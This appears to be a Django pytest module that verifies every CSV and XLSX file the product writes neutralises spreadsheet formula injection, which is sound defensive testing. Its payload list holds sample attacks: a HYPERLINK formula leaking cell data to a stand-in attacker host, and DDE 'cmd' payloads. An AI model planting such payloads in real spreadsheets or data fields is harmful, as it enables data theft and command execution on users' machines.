"""Formula injection (CSV/XLSX injection): no spreadsheet Lazos writes can make a cell run.

Every text field of every record of the government is filled with a payload a spreadsheet
program would run (``=HYPERLINK(…)``, ``+cmd|' /C calc'!A0``, ``@SUM(…)``, ``-2+3+cmd…``, a
leading tab or carriage return, a lone ``-``), numbers with a negative value, and then every
file the product offers is generated: the list exports (CSV and XLSX of every list view with
``export_fields``), the open-data CSV files and data package, the dashboards' CSV files and
the import example workbooks. The files are found by walking the URL patterns, so a new
export is covered without touching this test, and a URL that looks like it serves a
spreadsheet but that the walk cannot exercise fails the test instead of being skipped.

In every file: no text cell starts with ``= + - @``, tab or carriage return unless it is
escaped with an apostrophe, no XLSX cell is a formula, and numeric columns are still numbers
(a negative number stays a number).
"""

from __future__ import annotations

import contextlib
import csv
import inspect
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from django.apps import apps
from django.db import DatabaseError, models, transaction
from django.test import Client, RequestFactory
from django.urls import get_resolver, reverse
from django.utils.module_loading import autodiscover_modules

from lazos.core.models import TenantModel
from lazos.core.testing.builders import OBJECT_BUILDERS
from lazos.core.testing.urls import walk_patterns
from lazos.core.views import ObjectListView

if TYPE_CHECKING:
    from lazos.governments.models import Government

# What this checks does not depend on the database engine: CI runs it once, in the SQLite pass.
pytestmark = [pytest.mark.django_db, pytest.mark.engine_independent]

PAYLOADS = (
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click here")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
ESCAPED = re.compile(r"^'+[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d*)?([eE][+-]?\d+)?$")
NEGATIVE = -7
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
REPO = Path(__file__).resolve().parents[3]

# Views whose code mentions spreadsheets but that serve no spreadsheet themselves: a page
# that links to files, an upload form. Each with the reason; anything else found by the walk
# must be exercised below.
NOT_FILES = {
    "api:docs": "the API documentation page",
    "dashboards:activity": "a dashboard page (its CSV files are dashboards:csv)",
    "dashboards:budget": "a dashboard page (its CSV files are dashboards:csv)",
    "dashboards:agreements": "a dashboard page (its CSV files are dashboards:csv)",
    "dashboards:results": "a dashboard page (its CSV files are dashboards:csv)",
    "dashboards:map": "a dashboard page (its CSV files are dashboards:csv)",
    "opendata:index": "the open-data page that links to the files",
    "spreadsheets:import-start": "the upload form",
}
LOOKS_LIKE_A_SPREADSHEET = re.compile(r"csv|xlsx|spreadsheetml|workbook", re.IGNORECASE)


# --- The data -------------------------------------------------------------------------------


def _text_fields(model: type[models.Model]) -> list[models.Field[Any, Any]]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not isinstance(f, models.FileField)
        and not f.choices
        and not f.primary_key
        and f.name != "slug"
    ]


def _number_fields(model: type[models.Model]) -> list[models.Field[Any, Any]]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.IntegerField | models.DecimalField | models.FloatField)
        and not isinstance(f, models.AutoField | models.BigAutoField)
        and not f.is_relation
        and not f.choices
    ]


def _payload(index: int, row: int, max_length: int | None) -> str:
    # The row number keeps the values distinct (unique constraints) and comes last, so the
    # value still starts with the dangerous character when it is cut to the field's length.
    text = f"{PAYLOADS[index % len(PAYLOADS)]} {row}"
    return text[:max_length] if max_length else text


def _update(model: type[models.Model], pk: Any, values: dict[str, Any]) -> bool:
    try:
        with transaction.atomic():
            model._default_manager.filter(pk=pk).update(**values)
    except DatabaseError:  # a constraint, a length, a trigger (a text search configuration)
        return False
    return True


def poison(government: Government, users: list[Any]) -> None:
    """Every text field of every row of the government holds a payload; numbers a negative
    value where the database accepts one."""
    for model in apps.get_models():
        if not issubclass(model, TenantModel):
            continue
        texts, numbers = _text_fields(model), _number_fields(model)
        rows = model._default_manager.filter(government=government).order_by("pk")
        for row, pk in enumerate(rows.values_list("pk", flat=True)):
            values: dict[str, Any] = {
                f.attname: _payload(row + column, row, f.max_length)
                for column, f in enumerate(texts)
            }
            if values and not _update(model, pk, values):
                for name, value in values.items():  # one at a time: skip what a constraint refuses
                    _update(model, pk, {name: value})
            for f in numbers:
                _update(
                    model,
                    pk,
                    {
                        f.attname: Decimal(NEGATIVE)
                        if isinstance(f, models.DecimalField)
                        else NEGATIVE
                    },
                )
    for row, user in enumerate(users):
        type(user)._default_manager.filter(pk=user.pk).update(
            first_name=_payload(row, row, 150), last_name=_payload(row + 1, row, 150)
        )


def public_content(government: Government) -> None:
    """One row in every open-data table (the text is poisoned afterwards)."""
    from lazos.actions.models import Action, BudgetLine, Mission
    from lazos.agreements.models import Agreement
    from lazos.partners.models import Partner
    from lazos.results.choices import UpdateStatus
    from lazos.results.models import Indicator, IndicatorPeriod, IndicatorUpdate

    partner = Partner.objects.create(government=government, name="p", kind="local_government")
    agreement = Agreement.objects.create(
        government=government, title="a", is_public=True, public_summary="s"
    )
    agreement.partners.set([partner])
    action = Action.objects.create(
        government=government,
        title="t",
        modality="mission",
        is_public=True,
        public_summary="s",
        agreement=agreement,
    )
    action.partners.set([partner])
    BudgetLine.objects.create(
        government=government, action=action, source="own", funder="f", amount=Decimal("10.50")
    )
    Mission.objects.create(government=government, action=action, destination_text="d", cost=5)
    indicator = Indicator.objects.create(
        government=government, action=action, title="i", unit="u", baseline_value=1
    )
    period = IndicatorPeriod.objects.create(
        government=government,
        indicator=indicator,
        start=date(2025, 1, 1),
        end=date(2025, 12, 31),
        target_value=Decimal("100"),
        target_comment="c",
    )
    IndicatorUpdate.objects.create(
        government=government,
        period=period,
        value=Decimal("42"),
        qualitative_value="q",
        status=UpdateStatus.APPROVED,
    )


def expiring_agreements(government: Government) -> None:
    """The dashboards' timeline lists them by title."""
    from lazos.agreements.models import Agreement

    Agreement.objects.filter(government=government).update(
        status="in_force", valid_until=date.today() + timedelta(days=100)
    )


def overdue_commitments(government: Government) -> None:
    from lazos.actions.models import Commitment

    Commitment.objects.filter(government=government).update(
        status="open", due_date=date.today() - timedelta(days=10)
    )


# --- The checks -----------------------------------------------------------------------------


class Found:
    """What one file held: rows and escaped payloads, for the "was it exercised" checks."""

    def __init__(self) -> None:
        self.rows = 0
        self.escaped = 0


def check_text(where: str, value: str, numeric: bool, found: Found) -> None:
    if ESCAPED.match(value):
        found.escaped += 1
    elif value.startswith(DANGEROUS):
        assert numeric, f"{where}: unescaped {value!r}"
        assert NUMBER.match(value), f"{where}: unescaped {value!r}"
    if numeric and value:
        assert NUMBER.match(value), f"{where}: a number column holds {value!r}"


def check_csv(name: str, data: bytes, numeric: Callable[[list[str], int], bool]) -> Found:
    found = Found()
    reader = csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"), newline=""))
    header = next(reader)
    for number, line in enumerate(reader, start=2):
        found.rows += 1
        for index, value in enumerate(line):
            where = f"{name} row {number} column {header[index]!r}"
            check_text(where, value, numeric(header, index), found)
    return found


def check_xlsx(name: str, data: bytes, numeric: Callable[[list[str], int], bool]) -> Found:
    from openpyxl import load_workbook

    found = Found()
    workbook = load_workbook(io.BytesIO(data))  # formulas kept as formulas: data_type "f"
    for sheet in workbook.worksheets:
        rows = sheet.iter_rows()
        header = [str(c.value or "") for c in next(rows)]
        for line in rows:
            found.rows += 1
            for index, cell in enumerate(line):
                where = f"{name} {sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where}: a formula {cell.value!r}"
                value = cell.value
                if isinstance(value, str):
                    check_text(where, value, False, found)
                    assert not (numeric(header, index) and value), f"{where}: text {value!r}"
                elif value is not None and numeric(header, index):
                    assert isinstance(value, int | float | Decimal), f"{where}: {value!r}"
    return found


def check_response(name: str, response: Any, numeric: Callable[[list[str], int], bool]) -> Found:
    assert response.status_code == 200, f"{name}: {response.status_code}"
    content_type = response["Content-Type"].split(";")[0]
    if content_type == "text/csv":
        return check_csv(name, response.content, numeric)
    if content_type == XLSX:
        return check_xlsx(name, response.content, numeric)
    if content_type == "application/zip":
        found = Found()
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            members = [m for m in archive.namelist() if m.endswith(".csv")]
            assert members, f"{name}: no CSV in the zip"
            for member in members:
                inner = check_csv(f"{name}:{member}", archive.read(member), numeric)
                assert inner.rows, f"{name}:{member}: no row, it was not exercised"
                assert inner.escaped, f"{name}:{member}: no payload reached the file"
                found.rows += inner.rows
                found.escaped += inner.escaped
        return found
    if content_type == "application/json":
        return Found()  # the descriptor: no cells (its documentation is tested in opendata)
    raise AssertionError(f"{name}: no check for a {content_type} file")


# --- The walk -------------------------------------------------------------------------------


def _own_source(view_class: type) -> str:
    """The source of the view's own classes (not the shared list view, whose docstring
    speaks of exports for every list)."""
    parts = []
    for klass in view_class.__mro__:
        if klass.__module__.startswith("lazos.") and klass.__module__ != "lazos.core.views":
            with contextlib.suppress(OSError, TypeError):
                parts.append(inspect.getsource(klass))
    return "\n".join(parts)


def _numeric_export_columns(view_class: type[ObjectListView]) -> set[int]:
    numeric = set()
    model = view_class.model
    for index, (accessor, _label) in enumerate(view_class.export_fields):
        if not isinstance(accessor, str) or "." in accessor:
            continue
        field_name = model._meta.pk.name if accessor == "pk" else accessor
        names = {f.name for f in model._meta.get_fields()}
        if field_name not in names:  # a property or a method
            continue
        model_field = model._meta.get_field(field_name)
        if isinstance(
            model_field, models.IntegerField | models.DecimalField | models.FloatField
        ) and not (model_field.is_relation or model_field.choices):
            numeric.add(index)
    return numeric


def test_every_spreadsheet_the_product_writes_is_neutralised(world):
    from lazos.dashboards.views import SECTIONS, DashboardMixin
    from lazos.opendata.datapackage import TABLES
    from lazos.opendata.views import OpenDataFileView
    from lazos.spreadsheets.choices import ImportKind

    autodiscover_modules("tests.factories")
    government = world.government
    government.portal_enabled = True
    government.save(update_fields=["portal_enabled"])

    patterns = list(walk_patterns(get_resolver().url_patterns))
    views = {name: getattr(pattern.callback, "view_class", None) for name, pattern in patterns}
    lists: list[tuple[str, Any]] = [
        (name, view_class)
        for name, view_class in views.items()
        if isinstance(view_class, type)
        and issubclass(view_class, ObjectListView)
        and view_class.export_fields
    ]
    assert len(lists) >= 10
    for name, view_class in lists:
        assert view_class.model in OBJECT_BUILDERS, f"{name}: no builder for {view_class.model}"
        for _ in PAYLOADS:
            OBJECT_BUILDERS[view_class.model](government)
    public_content(government)
    poison(government, list(world.users.values()))
    overdue_commitments(government)
    expiring_agreements(government)

    admin = world.client_for("administrator")
    exercised: set[str] = set()

    # 1. Every list export, in every format.
    from lazos.core.exports import FORMATS

    for name, view_class in lists:
        pattern_converters = dict(patterns)[name].pattern.converters
        assert not pattern_converters, f"{name}: a list with URL arguments, teach the walk"
        numeric_indexes = _numeric_export_columns(view_class)
        for fmt in FORMATS:
            response = admin.get(reverse(name), {"export": fmt})

            def in_numbers(header: list[str], index: int, _n: set[int] = numeric_indexes) -> bool:
                return index in _n

            found = check_response(f"{name}.{fmt}", response, in_numbers)
            assert found.rows, f"{name}.{fmt}: no row, the export was not exercised"
            assert found.escaped, f"{name}.{fmt}: no payload reached the file"
        exercised.add(name)

    # 2. Every open-data file (the zip holds every CSV).
    anonymous = Client()
    types = {table.name: {c.name: c.type for c in table.columns} for table in TABLES}
    for name, pattern in patterns:
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, OpenDataFileView)):
            continue
        arguments: list[dict[str, str]] = [{}]
        if "table" in pattern.pattern.converters:
            arguments = [{"table": table.name} for table in TABLES]
        for kwargs in arguments:
            address = reverse(name, kwargs={"government_slug": government.slug, **kwargs})
            # The zip holds every table; a column name has one type in every table.
            table_types = (
                types[kwargs["table"]]
                if kwargs
                else {column: kind for spec in types.values() for column, kind in spec.items()}
            )

            def numeric(header: list[str], index: int, _types: Any = table_types) -> bool:
                return _types.get(header[index]) in {"integer", "number"}

            found = check_response(address, anonymous.get(address), numeric)
            if kwargs:
                assert found.rows, f"{address}: no row, it was not exercised"
                assert found.escaped, f"{address}: no payload reached the file"
        exercised.add(name)

    # 3. The dashboards' CSV files: every chart of every section.
    dashboard_payloads = 0
    for section in SECTIONS:
        mixin = DashboardMixin()
        mixin.request = RequestFactory().get("/")
        mixin.government = government
        mixin.section = section
        for chart in mixin.charts():
            address = reverse("dashboards:csv", kwargs={"section": section, "chart": chart.slug})
            timeline = chart.kind == "timeline"

            def chart_numeric(header: list[str], index: int, _t: bool = timeline) -> bool:
                return not _t and index > 0

            found = check_response(address, admin.get(address), chart_numeric)
            dashboard_payloads += found.escaped
    assert dashboard_payloads, "no payload reached a dashboard CSV file"
    exercised.add("dashboards:csv")

    # 4. The import example workbooks (their example row names the government's records).
    template_payloads = 0
    for kind in ImportKind.values:
        address = reverse("spreadsheets:import-template")
        found = check_response(
            f"template {kind}", admin.get(address, {"kind": kind}), lambda h, i: False
        )
        assert found.rows, f"template {kind}: no row"
        template_payloads += found.escaped
    assert template_payloads, "no payload reached an import example workbook"
    exercised.add("spreadsheets:import-template")

    # Anything else that looks like it serves a spreadsheet must be exercised above.
    for name, pattern in patterns:
        view_class = getattr(pattern.callback, "view_class", None)
        if name in exercised or name in NOT_FILES or view_class is None:
            continue
        looks = LOOKS_LIKE_A_SPREADSHEET.search(str(pattern.pattern)) or (
            LOOKS_LIKE_A_SPREADSHEET.search(_own_source(view_class))
        )
        assert not looks, f"{name} ({view_class.__name__}) may write a spreadsheet: exercise it"


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|xlsxwriter|\.writerows?\(")


def test_every_module_that_writes_a_spreadsheet_uses_the_neutraliser():
    """A writer added later cannot forget it: the module must use spreadsheet_safety."""
    offenders = []
    writers = []
    for path in sorted((REPO / "lazos").rglob("*.py")):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if path.name == "spreadsheet_safety.py" or not WRITERS.search(text):
            continue
        writers.append(path)
        if "spreadsheet_safety" not in text:
            offenders.append(str(path.relative_to(REPO)))
    assert len(writers) >= 4
    assert not offenders, f"these modules write CSV/XLSX without the neutraliser: {offenders}"
